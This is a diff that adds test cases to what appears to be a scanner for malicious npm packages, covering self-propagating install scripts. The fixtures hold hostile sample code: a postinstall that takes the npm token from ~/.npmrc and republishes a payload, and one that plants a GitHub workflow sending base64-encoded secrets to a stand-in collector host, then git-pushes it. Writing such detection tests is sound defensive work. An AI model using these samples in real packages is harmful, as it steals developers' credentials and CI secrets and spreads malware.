@@ -1494,3 +1494,40 @@ rimraf.sync(path.join(__dirname, '..', '.cache', 'fmt'));`,
     ).toEqual([]);
   });
 });
+
+describe('self-propagation through the registry library, planted workflows and git options', () => {
+  it("a token scraped from ~/.npmrc handed to libnpmpublish's publish while installing", () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const { publish } = require('libnpmpublish');
+const fs = require('fs'); const os = require('os');
+const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\S+)/)[1];
+const manifest = JSON.parse(fs.readFileSync(__dirname + '/payload/package.json', 'utf8'));
+publish(manifest, fs.readFileSync(__dirname + '/payload.tgz'), { forceAuth: { token } });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toEqual(
+      expect.arrayContaining(['js.exec-npm-publish', 'js.exfil-flow']),
+    );
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a release tool publishing for its user at run time is not self-propagation', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ bin: { release: 'index.js' } }),
+      'index.js': `const { publish } = require('libnpmpublish');
+module.exports = async (manifest, tarball, opts) => publish(manifest, tarball, { ...opts, access: 'public' });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).not.toContain('js.exec-npm-publish');
+  });
+  it('a workflow written into the project above, then committed and pushed with git -C', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const fs = require('fs'); const path = require('path'); const { execFileSync } = require('child_process');
+const root = path.resolve(process.cwd(), '..', '..');
+const wf = 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -s -d "$(echo \\'\${{ toJSON(secrets) }}\\' | base64 -w0)" https://collector.ci-sync.example/u\\n';
+fs.writeFileSync(path.join(root, '.github', 'workflows', 'sync.yml'), wf);
+execFileSync('git', ['-C', root, 'push']);`,
+    });
+    const rules = r.evidence.map((f) => f.rule);
+    expect(rules).toEqual(expect.arrayContaining(['script.env-exfil', 'script.git-push']));
+  });
+});
